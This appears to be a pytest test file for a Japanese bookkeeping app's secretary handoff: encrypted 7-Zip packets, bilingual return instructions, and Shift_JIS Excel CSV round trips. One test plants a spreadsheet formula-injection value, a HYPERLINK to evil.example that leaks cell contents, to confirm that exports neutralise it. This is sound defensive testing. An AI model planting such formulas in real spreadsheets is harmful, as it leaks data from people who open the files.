"""The round trip with the tools secretaries use: the packet says how to send it back (7-Zip, Keka, 7z,
which password, where receipts go), its data CSVs are formula-safe, and a sheet saved by Japanese Excel
(Shift_JIS, 2026/11/26, serial dates) zipped with 7-Zip's folder layout applies."""

from __future__ import annotations

import csv
import dataclasses
import io
import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest

from ushiro_desk.domain.expenses.rules import ExpenseInput
from ushiro_desk.services import expenses
from ushiro_desk.services.handoff import bundles, returns
from ushiro_desk.services.handoff.recipients import find_recipient, save_profile
from ushiro_desk.storage import chores_repo

TODAY = date(2026, 11, 20)
NOV = (date(2026, 11, 1), date(2026, 11, 30))
PASSWORD = "pw-secretary-7zip"
SEVEN_ZIP = shutil.which("7z")


@pytest.fixture
def secretary(demo_store):  # type: ignore[no-untyped-def]
    found = find_recipient(demo_store, "田中")
    assert found is not None
    return found


def _export(store, recipient, target: Path, password: str | None = PASSWORD):  # type: ignore[no-untyped-def]
    shown = bundles.preview(store, recipient, *NOV)
    bundles.export(store, shown, bundles.default_work_order(store, shown, TODAY), target, password=password, today=TODAY)
    return shown


def test_the_packet_data_csvs_neutralise_formulas_and_keep_amounts_numeric(demo_store, secretary, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"領収書")'
    expenses.create(demo_store, ExpenseInput(date=date(2026, 11, 12), payee=evil, amount="4,400", account="消耗品費",
                                             memo="@SUM(1)"), today=TODAY)
    _export(demo_store, secretary, tmp_path / "folder", password=None)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "folder" / "data" / "expenses.csv").read_text(encoding="utf-8-sig"), newline="")))
    (row,) = [r for r in rows if "HYPERLINK" in r["payee"]]
    assert (row["payee"], row["memo"], row["amount"]) == ("'" + evil, "'@SUM(1)", "4400")
    assert all(r["amount"].isdigit() for r in rows)


@pytest.mark.parametrize(("language", "expected"), [
    ("ja", ("7-Zip", "Keka", "7z a -tzip -mem=AES256 -p", "同じパスワード", "return/receipts/", "AES-256", "CSV（コンマ区切り）")),
    ("en", ("7-Zip", "Keka", "7z a -tzip -mem=AES256 -p", "same password you used to open the packet", "return/receipts/", "AES-256", "CSV (Comma delimited)")),
])
def test_index_html_says_how_to_send_the_packet_back_in_the_recipients_language(demo_store, secretary, tmp_path: Path, language: str, expected: tuple[str, ...]) -> None:  # type: ignore[no-untyped-def]
    import html

    save_profile(demo_store, dataclasses.replace(secretary.profile, language=language))
    recipient = find_recipient(demo_store, "田中")
    _export(demo_store, recipient, tmp_path / "folder", password=None)
    page = html.unescape((tmp_path / "folder" / "index.html").read_text(encoding="utf-8"))
    steps = page[page.index("id='return-steps'"):]
    for text in expected:
        assert text in steps, text
    assert PASSWORD not in page


@pytest.mark.skipif(SEVEN_ZIP is None, reason="7z is installed by .ci/run")
def test_a_sheet_saved_by_japanese_excel_and_zipped_with_7zip_applies(demo_store, secretary, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    shown = _export(demo_store, secretary, tmp_path / "p.zip")
    folder = tmp_path / "田中さん作業"
    subprocess.run([SEVEN_ZIP, "x", f"-p{PASSWORD}", f"-o{folder}", str(tmp_path / "p.zip")], check=True, capture_output=True)
    sheet = folder / "return" / "status.csv"
    rows = list(csv.DictReader(io.StringIO(sheet.read_text(encoding="utf-8-sig"))))
    (first, due_first), (second, due_second) = [(o[0], o[2]) for o in shown.occurrences[:2]]
    for row in rows:  # Excel shows 2026-11-05 as 2026/11/5; a column formatted as a number shows 46331
        oid = int(row["occurrence_id"])
        row["due_date"] = f"{due_first.year}/{due_first.month}/{due_first.day}" if oid == first else row["due_date"].replace("-", "/")
        if oid == first:
            row.update(status="done", minutes="30", note="請求書を送付しました")
        if oid == second:
            row.update(status="question", note="宛名の敬称は御中でよいですか", due_date=str((due_second - date(1899, 12, 30)).days))
    text = io.StringIO()
    writer = csv.DictWriter(text, list(rows[0].keys()), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    sheet.write_bytes(text.getvalue().encode("cp932"))  # "CSV (コンマ区切り)" = Shift_JIS, no BOM
    back = tmp_path / "返送.zip"
    subprocess.run([SEVEN_ZIP, "a", "-tzip", "-mem=AES256", f"-p{PASSWORD}", str(back), str(folder)], check=True, capture_output=True, cwd=tmp_path)
    review = returns.read_return(demo_store, back, PASSWORD, TODAY)
    assert {i.occurrence_id: (i.status.value, i.hint, i.conflict) for i in review.items} == {first: ("done", "", ""), second: ("question", "", "")}
    returns.apply_return(demo_store, review, {i.key for i in review.items if i.applicable}, TODAY)
    with demo_store.db.snapshot() as conn:
        done = chores_repo.load_occurrence(conn, first)
    assert (done.state.value, done.minutes, done.done_by_id) == ("done", 30, secretary.id)
    assert [q.text for q in returns.open_questions(demo_store)] == ["宛名の敬称は御中でよいですか"]
